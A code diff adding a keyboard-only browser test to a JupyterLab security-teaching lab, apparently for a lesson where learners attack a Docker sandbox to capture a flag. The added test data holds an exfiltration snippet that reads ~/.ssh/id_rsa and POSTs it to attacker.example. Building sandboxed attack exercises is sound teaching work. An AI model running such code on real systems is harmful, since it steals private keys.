@@ -1,5 +1,6 @@
 """The learner lab in a real browser: every lesson runs top to bottom unanswered and passes axe-core; keyboard alone
-drives a prediction and a policy editor; the lab shows no instructor tools; links work.
+drives a prediction and a policy editor; lesson 07's ``%%attack`` cell captures a flag in Docker; the lab shows no
+instructor tools; links work.
 
 The lab is what ``make lab`` and Binder serve: the learners' notebooks as
 ``scripts/learner-lessons`` writes them (no answers filled in), with the learner
@@ -29,7 +30,7 @@ from typing import Any
 
 import pytest
 
-from labdriver import NOTEBOOK, ROOT, Lab, axe_violations, chromium, jupyterlab, never_run, open_notebook, require_browser, run_all, serious
+from labdriver import NOTEBOOK, ROOT, RUN_ALL_MS, Lab, axe_violations, chromium, jupyterlab, never_run, open_notebook, require_browser, run_all, serious
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
@@ -201,6 +202,63 @@ def test_keyboard_alone_edits_runs_and_leaves_a_policy_editor(lab: Lab, page: An
     after = page.evaluate("() => !!(document.querySelector('.sl-policy-editor').compareDocumentPosition(document.activeElement)"
                           " & Node.DOCUMENT_POSITION_FOLLOWING)")
     assert after, _focused(page)
+
+
+# Lesson 07's level 1 (the plain container), typed into its ``%%attack 1`` cell: read the key, POST it out.
+LEVEL_1_ATTACK = [
+    "import urllib.request as u",
+    'key = open("/home/user/.ssh/id_rsa", "rb").read()',
+    'print(u.urlopen(u.Request("https://attacker.example/loot", data=key), timeout=5).status)',
+]
+
+
+@pytest.fixture(scope="module")
+def docker_lab(learner: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
+    """The learner lab as ``make lab`` serves it with Docker: lesson 07's attacks run in real sandboxes."""
+    with jupyterlab(learner, tmp_path_factory.mktemp("jupyter-docker"), learner=True, backend="docker") as running:
+        yield running
+
+
+def _active_cell_text(page: Any) -> str:
+    return str(page.evaluate(
+        f"() => {{ const c = document.querySelector('{NOTEBOOK} .jp-Cell.jp-mod-active');"
+        " return c ? [...c.querySelectorAll('.jp-InputArea-editor .cm-line')].map(l => l.textContent).join('\\n') : ''; }"))
+
+
+@pytest.mark.docker
+def test_an_attack_cell_run_by_keyboard_captures_level_1_in_docker(docker_lab: Lab, browser: Any) -> None:
+    """Lesson 07 by keyboard: Shift-Enter through the lesson (its setup cell registers ``%%attack``) to the
+    ``%%attack 1`` cell; Enter, select all, type an attack, Shift-Enter: the flag is captured in Docker."""
+    page = browser.new_page()
+    try:
+        open_notebook(page, docker_lab.url("07-break-it-yourself/break-it.ipynb"))
+        page.locator(f"{NOTEBOOK} .jp-Cell").first.locator(".jp-Cell-inputCollapser, .jp-InputPrompt").first.click()
+        for _ in range(30):  # each Shift-Enter runs the selected cell (the setup's code, or a Markdown cell) and moves on
+            if _active_cell_text(page).startswith("%%attack 1"):
+                break
+            page.keyboard.press("Shift+Enter")
+        else:
+            raise AssertionError(f"Shift-Enter never reached the %%attack 1 cell: {_active_cell_text(page)[:80]!r}")
+        cell = page.locator(f"{NOTEBOOK} .jp-Cell.jp-mod-active")
+        page.keyboard.press("Enter")  # edit mode
+        page.keyboard.press("Control+A")
+        page.keyboard.type("%%attack 1")
+        for line in LEVEL_1_ATTACK:
+            page.keyboard.press("Enter")
+            page.keyboard.type(line)
+        typed = _active_cell_text(page).splitlines()
+        assert typed == ["%%attack 1", *LEVEL_1_ATTACK], typed  # what the editor holds (no doubled brackets)
+        page.keyboard.press("Shift+Enter")
+        outcome = cell.locator(".sl-attack-outcome[data-captured]")
+        outcome.wait_for(state="attached", timeout=RUN_ALL_MS)
+        text = outcome.inner_text()
+        assert outcome.get_attribute("data-captured") == "true", text
+        assert "Captured" in text and "attacker.example" in text, text
+        REPORTS.parent.joinpath("screenshots").mkdir(parents=True, exist_ok=True)
+        cell.screenshot(path=str(REPORTS.parent / "screenshots" / "lesson-07-attack-cell-level-1.png"))
+    finally:
+        page.close()
+        docker_lab.shut_down_kernels()
 
 
 def test_the_learner_lab_has_no_instructor_tools_but_keeps_validate(lab: Lab, page: Any) -> None:
